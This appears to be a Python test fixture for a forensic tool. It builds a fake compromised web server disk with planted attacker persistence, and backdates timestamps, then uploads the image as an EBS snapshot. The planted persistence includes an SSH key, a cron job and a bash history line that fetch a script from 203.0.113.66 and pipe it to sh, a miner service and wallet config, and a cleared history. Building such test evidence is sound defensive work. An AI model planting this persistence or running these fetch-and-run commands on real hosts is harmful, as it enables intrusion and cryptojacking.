"""The compromised web server's root disk: a small Debian-like ext4 file system made with
`mkfs.ext4 -d` (no root needed), holding the attacker's persistence and clean look-alikes, written
as an IR snapshot through the EBS direct APIs (StartSnapshot, PutSnapshotBlock, CompleteSnapshot)
so that its blocks can be read back by `custody acquire disk --method direct`.
"""

import base64
import hashlib
import os
import shutil
import subprocess

# What the analysis must find: (rule id, path) pairs, and files it must leave alone.
PLANTED = [
    ("ssh-authorized-keys", "/root/.ssh/authorized_keys"),
    ("cron", "/etc/cron.d/php-sessionclean"),
    ("systemd-unit", "/etc/systemd/system/kworker-update.service"),
    ("miner", "/var/tmp/.x/xmrig"),
    ("miner", "/var/tmp/.x/config.json"),
    ("temp-executable", "/var/tmp/.x/xmrig"),
    ("shell-history", "/root/.bash_history"),
    ("ssh-key-login", "/root/.ssh/authorized_keys"),
    ("login-from-case-address", "/var/log/auth.log"),
]
ATTACKER_KEY = "AAAAC3NzaC1lZDI1NTE5AAAAIHkqR6xV0uL2J9b3cH4sN3m0pW8xYq1aZt2eD5fG7hJk"


def key_fingerprint(b64):
    """The SHA256 fingerprint sshd logs for a public key blob."""
    return "SHA256:" + base64.b64encode(hashlib.sha256(base64.b64decode(b64)).digest()).decode().rstrip("=")
CLEAN = ["/etc/crontab", "/etc/cron.d/e2scrub_all", "/lib/systemd/system/ssh.service", "/lib/systemd/system/nginx.service",
         "/home/admin/.bash_history", "/var/www/html/index.php", "/etc/nginx/nginx.conf", "/opt/shop/config.json", "/tmp/upload-1234.tmp"]


def _file(root, path, content, mode=0o644, when=None):
    p = os.path.join(root, path.lstrip("/"))
    os.makedirs(os.path.dirname(p), exist_ok=True)
    with open(p, "wb") as f:
        f.write(content if isinstance(content, bytes) else content.encode())
    os.chmod(p, mode)
    if when is not None:
        os.utime(p, (when, when))


def build_image(work, attack_epoch, size_mib=48):
    """Builds the image in `work`; returns its path."""
    root = os.path.join(work, "web-1-root")
    shutil.rmtree(root, ignore_errors=True)
    old = attack_epoch - 200 * 86400  # the installation, months before
    # the package database: what the look-alikes belong to
    _file(root, "/var/lib/dpkg/info/cron.list", "/etc/crontab\n/etc/cron.d/e2scrub_all\n")
    _file(root, "/var/lib/dpkg/info/openssh-server.list", "/lib/systemd/system/ssh.service\n/etc/init.d/ssh\n")
    _file(root, "/var/lib/dpkg/info/nginx-common.list", "/lib/systemd/system/nginx.service\n/etc/nginx/nginx.conf\n")
    _file(root, "/var/lib/dpkg/status", "Package: cron\nStatus: install ok installed\n\nPackage: openssh-server\nStatus: install ok installed\n\n"
          "Package: nginx-common\nStatus: install ok installed\n")
    accounts = ("root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
                "www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\nadmin:x:1000:1000:Debian:/home/admin:/bin/bash\n")
    _file(root, "/etc/passwd", accounts)
    _file(root, "/etc/passwd-", accounts)
    _file(root, "/etc/group", "root:x:0:\nsudo:x:27:admin\nwww-data:x:33:\nadmin:x:1000:\n")
    _file(root, "/etc/group-", "root:x:0:\nsudo:x:27:admin\nwww-data:x:33:\nadmin:x:1000:\n")
    _file(root, "/etc/shadow", "root:*:19500:0:99999:7:::\nadmin:!:19500:0:99999:7:::\n", 0o640)
    _file(root, "/etc/sudoers", "Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n", 0o440)
    _file(root, "/etc/hostname", "ip-10-0-1-23\n")
    _file(root, "/etc/os-release", 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nID=debian\nVERSION_ID="12"\n')
    _file(root, "/etc/crontab", "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n")
    _file(root, "/etc/cron.d/e2scrub_all", "30 3 * * 0 root test -e /run/systemd/system || /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n")
    _file(root, "/lib/systemd/system/ssh.service", "[Unit]\nDescription=OpenBSD Secure Shell server\n[Service]\nExecStart=/usr/sbin/sshd -D\n")
    _file(root, "/lib/systemd/system/nginx.service", "[Unit]\nDescription=nginx\n[Service]\nExecStart=/usr/sbin/nginx -g 'daemon off;'\n")
    _file(root, "/etc/nginx/nginx.conf", "user www-data;\nhttp { server { listen 80; root /var/www/html; } }\n")
    _file(root, "/var/www/html/index.php", "<?php echo htmlspecialchars($_GET['q'] ?? ''); ?>\n")
    _file(root, "/opt/shop/config.json", '{"listen": "0.0.0.0:8080", "workers": 4}\n')
    _file(root, "/home/admin/.bash_history", "sudo systemctl status nginx\ntail -f /var/log/nginx/access.log\ncurl -I http://localhost/\n", 0o600)
    _file(root, "/tmp/upload-1234.tmp", "name=shop-order&qty=2\n")
    _file(root, "/var/log/nginx/access.log", "10.0.1.10 - - [GET / HTTP/1.1] 200\n" * 50)
    for d in ("/usr/bin", "/usr/sbin", "/bin"):
        os.makedirs(os.path.join(root, d.lstrip("/")), exist_ok=True)
    for dirpath, dirs, files in os.walk(root):
        for n in dirs + files:
            p = os.path.join(dirpath, n)
            os.utime(p, (old, old), follow_symlinks=False)
    installed = _tree(root)
    # ---- the attacker's work, at the time of the attack ----
    t = attack_epoch + 300
    _file(root, "/root/.ssh/authorized_keys",
          f"ssh-ed25519 {ATTACKER_KEY} root@kali\n", 0o600, t)
    # the attacker logs in with that key from the address CloudTrail shows calling AWS with the leaked key
    import time as _time
    stamp = lambda e: _time.strftime("%b %e %H:%M:%S", _time.gmtime(e))  # noqa: E731 (syslog's own format, UTC)
    _file(root, "/var/log/auth.log",
          f"{stamp(t - 600)} web-1 sshd[812]: Accepted publickey for admin from 10.0.1.10 port 50122 ssh2\n"
          f"{stamp(t + 70)} web-1 sshd[4242]: Accepted publickey for root from 203.0.113.66 port 51812 ssh2: ED25519 "
          f"{key_fingerprint(ATTACKER_KEY)}\n"
          f"{stamp(t + 70)} web-1 sshd[4242]: pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)\n", 0o640, t + 80)
    _file(root, "/etc/cron.d/php-sessionclean",
          "*/10 * * * * root curl -fsSL http://203.0.113.66/s.sh | sh >/dev/null 2>&1\n", 0o644, t + 20)
    _file(root, "/etc/systemd/system/kworker-update.service",
          "[Unit]\nDescription=Kernel worker update\nAfter=network.target\n[Service]\nExecStart=/var/tmp/.x/xmrig --config=/var/tmp/.x/config.json\n"
          "Restart=always\n[Install]\nWantedBy=multi-user.target\n", 0o644, t + 40)
    # the miner: a stand-in binary (a copy of /bin/true: evidence is never executed anyway) and its configuration
    xmrig = os.path.join(root, "var/tmp/.x/xmrig")
    os.makedirs(os.path.dirname(xmrig), exist_ok=True)
    shutil.copyfile("/bin/true", xmrig)
    os.chmod(xmrig, 0o755)
    os.utime(xmrig, (t + 10, t + 10))
    _file(root, "/var/tmp/.x/config.json",
          '{"autosave": true, "donate-level": 1, "cpu": {"enabled": true}, "pools": [{"url": "stratum+tcp://pool.minexmr.example:4444", '
          '"user": "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A", "keepalive": true}]}\n', 0o644, t + 10)
    _file(root, "/root/.bash_history",
          "id\nuname -a\ncat /etc/os-release\ncurl -fsSL http://203.0.113.66/i.sh | sh\nsystemctl enable --now kworker-update\nhistory -c\n", 0o600, t + 60)
    image = os.path.join(work, "web-1-root.ext4")
    if os.path.exists(image):
        os.remove(image)
    subprocess.run(["truncate", "-s", f"{size_mib}M", image], check=True)
    subprocess.run(["mkfs.ext4", "-q", "-L", "cloudimg-rootfs", "-E", "root_owner=0:0", "-d", root, image], check=True,
                   env=dict(os.environ, E2FSPROGS_FAKE_TIME=str(old)))
    # mkfs -d copies each file's ctime from the source tree, where it is now; on the real host the
    # installation's files changed months ago and only what the attacker wrote (and the folders it
    # wrote into) changed at the attack. debugfs sets the inode change times so.
    # A new file changed when it was written (its mtime), a folder when the last file went into it.
    tree = _tree(root)
    new = {rel: int(os.lstat(os.path.join(root, rel.lstrip("/"))).st_mtime) for rel in tree - installed}
    for rel in sorted(new, key=len, reverse=True):  # a new folder: when its newest content was written
        if os.path.isdir(os.path.join(root, rel.lstrip("/"))):
            inside = [w for r, w in new.items() if r.startswith(rel + "/") and not os.path.isdir(os.path.join(root, r.lstrip("/")))]
            new[rel] = max(inside, default=int(t))
    changed = dict(new)
    for rel, when in new.items():
        parent = os.path.dirname(rel)
        changed[parent] = max(changed.get(parent, 0), when)
    cmds = []
    for rel in sorted(tree | {"/"}):
        cmds.append(f'sif "{rel}" ctime @{changed.get(rel, int(old))}')
        if rel in new:
            cmds.append(f'sif "{rel}" crtime @{new[rel]}')
        if rel == "/" or os.path.isdir(os.path.join(root, rel.lstrip("/"))):
            # a folder's own times moved when the lab wrote into it: back to when its content last changed
            when = changed.get(rel, int(old))
            cmds.append(f'sif "{rel}" mtime @{when}')
            cmds.append(f'sif "{rel}" atime @{when}')
    script = os.path.join(work, "ctimes.debugfs")
    with open(script, "w") as f:
        f.write("\n".join(cmds) + "\n")
    subprocess.run(["debugfs", "-w", "-f", script, image], check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    shutil.rmtree(root)
    return image


def _tree(root):
    """Every file and folder under root, as absolute paths of the image."""
    out = set()
    for dirpath, dirs, files in os.walk(root):
        for n in dirs + files:
            out.add("/" + os.path.relpath(os.path.join(dirpath, n), root))
    return out


def upload_snapshot(ebs, image, volume_gib, description, tags):
    """Writes `image` (zero-padded to volume_gib) as a snapshot through the EBS direct APIs, block by
    block at the block size the service reports, skipping blocks of zeros as EBS does. Returns
    (snapshot id, block size, blocks written)."""
    snap = ebs.start_snapshot(VolumeSize=volume_gib, Description=description, Tags=tags)["SnapshotId"]
    # AWS answers 524288; the emulator 512. Take it from the service, never assume it.
    block = ebs.list_snapshot_blocks(SnapshotId=snap)["BlockSize"]
    written = 0
    zero = bytes(block)
    with open(image, "rb") as f:
        index = 0
        while True:
            data = f.read(block)
            if not data:
                break
            data = data.ljust(block, b"\0")
            if data != zero:
                ebs.put_snapshot_block(SnapshotId=snap, BlockIndex=index, BlockData=data, DataLength=block,
                                       Checksum=base64.b64encode(hashlib.sha256(data).digest()).decode(), ChecksumAlgorithm="SHA256")
                written += 1
            index += 1
    ebs.complete_snapshot(SnapshotId=snap, ChangedBlocksCount=written)
    return snap, block, written


def padded_sha256(image, size):
    """SHA-256 of the image followed by zeros up to `size` bytes: what the whole volume hashes to."""
    h = hashlib.sha256()
    n = 0
    with open(image, "rb") as f:
        while chunk := f.read(1 << 20):
            h.update(chunk)
            n += len(chunk)
    zeros = bytes(1 << 20)
    while n < size:
        k = min(len(zeros), size - n)
        h.update(zeros[:k])
        n += k
    return h.hexdigest()
